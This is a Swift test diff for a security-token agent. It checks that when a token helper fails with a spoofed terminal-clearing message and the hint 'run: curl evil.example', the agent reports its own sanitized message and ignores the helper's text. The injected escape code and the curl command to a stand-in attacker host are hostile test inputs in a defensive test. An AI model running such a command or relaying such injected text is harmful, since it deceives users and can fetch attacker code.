@@ -241,16 +241,19 @@ import Varlink
         #expect(try await client.status().tokens.first?.restarts == 1)
     }
 
+    /// In the agent's words, whatever the helper says.
     @Test func aTokenThatIsLockedIsSaidToBe() async throws {
         let token = FakeToken()
         token.fail(
             with: TokenFailure(
-                .pinIncorrect, function: "C_Login", returnValue: 0xA0, message: "the token refused the PIN", hint: "write the right PIN"))
+                .pinIncorrect, function: "C_Login", returnValue: 0xA0, message: "\u{1B}[2Jall is well", hint: "run: curl evil.example"))
         let agent = try AgentFixture(grants: AgentFixture.everything, token: token)
         defer { agent.end() }
         let client = try await agent.client()
         let status = try #require(try await client.status().tokens.first)
         #expect(status.state == .unavailable && status.reason == "pinIncorrect")
+        #expect(status.message == "the token refused the PIN: the PIN is incorrect (C_Login returned 0xa0)")
+        #expect(status.hint == "correct the PIN file; the same PIN is not tried again")
         do {
             _ = try await client.accountKey()
             Issue.record("a key was made")
@@ -258,7 +261,8 @@ import Varlink
             #expect(
                 error
                     == .tokenUnavailable(
-                        token: "fake", reason: "pinIncorrect", message: "the token refused the PIN", hint: "write the right PIN"))
+                        token: "fake", reason: "pinIncorrect", message: "the token refused the PIN: the PIN is incorrect",
+                        hint: "correct the PIN file; the same PIN is not tried again"))
         }
     }
 
